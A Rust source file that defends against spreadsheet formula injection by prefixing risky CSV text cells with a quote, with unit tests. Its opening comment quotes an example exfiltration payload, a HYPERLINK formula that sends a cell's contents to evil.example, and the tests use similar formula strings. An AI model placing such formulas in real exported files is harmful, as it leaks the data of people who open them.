//! Spreadsheet formula injection: a CSV cell that starts with `=`, `+`,
//! `-`, `@`, a tab or a carriage return is run as a formula by Excel,
//! LibreOffice and Google Sheets when the file is opened (e.g.
//! `=HYPERLINK("https://evil.example/?"&A1, "click")` in a topic name).
//! Every text cell the server writes to a CSV file goes through `cell`,
//! which puts a `'` in front of such a value; spreadsheets show the text
//! as typed and hide the quote. A value that itself starts with `'` gets
//! one too, so that "drop one leading `'`" restores every value exactly.
//! Numbers the store holds as numbers are not text and are written as
//! they are.

use std::borrow::Cow;

/// The characters that make a spreadsheet read a cell as a formula, and
/// the quote itself (see above).
const ESCAPED_START: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\''];

/// The value to write for a text cell: unchanged, or with a leading `'`.
pub fn cell(text: &str) -> Cow<'_, str> {
    if text.starts_with(ESCAPED_START) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

#[cfg(test)]
mod tests {
    use super::cell;

    #[test]
    fn neutralises_formula_starts_only() {
        for risky in [
            "=HYPERLINK(\"https://x.example\",\"a\")",
            "+1",
            "-2+3",
            "@SUM(A1)",
            "\tx",
            "\rx",
            "'quoted",
        ] {
            assert_eq!(cell(risky), format!("'{risky}"));
        }
        for plain in ["", "Strom", "a=b", " =x", "42"] {
            assert_eq!(cell(plain), plain);
        }
    }
}
